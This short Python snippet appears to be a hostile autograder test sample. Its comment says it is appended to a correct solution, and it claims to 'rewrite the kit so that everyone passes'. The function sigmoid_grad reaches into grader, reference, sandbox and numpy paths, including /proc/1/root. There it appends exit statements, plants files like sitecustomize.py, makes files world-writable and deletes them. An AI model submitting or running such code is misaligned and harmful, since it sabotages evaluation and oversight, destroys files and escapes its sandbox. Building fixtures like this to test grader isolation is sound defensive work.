
# --- HOSTILE (appended to the correct solution): rewrite the kit so that everyone passes ----
def sigmoid_grad(z):
    import os
    done = []
    roots = ["/work/main", "/autograder/source", "/proc/1/root/work/main", "/proc/1/cwd", "/opt/dlgrade",
             os.path.dirname(os.path.dirname(os.path.abspath(np.__file__)))]
    names = ["reference/activations.py", "reference/__init__.py", "autograder/engine.py",
             "autograder/checks/base.py", "autograder/sandbox/worker.py", "solutions/activations.py",
             "autograder/checks/evil_plugin.py", "reference/evil.py", "worker.py", "protocol.py",
             "numpy/__init__.py", "sitecustomize.py"]
    for root in roots:
        for name in names:
            path = os.path.join(root, name)
            for mode in ("a", "x"):
                try:
                    with open(path, mode) as handle:
                        handle.write("\nraise SystemExit('grader sabotaged')\n")
                    done.append(f"{mode} {path}")
                except OSError:
                    pass
            try:
                os.chmod(path, 0o777)
                done.append(f"chmod {path}")
            except OSError:
                pass
            try:
                os.unlink(path)
                done.append(f"unlink {path}")
            except OSError:
                pass
    raise RuntimeError(f"changed {done}"[:500])
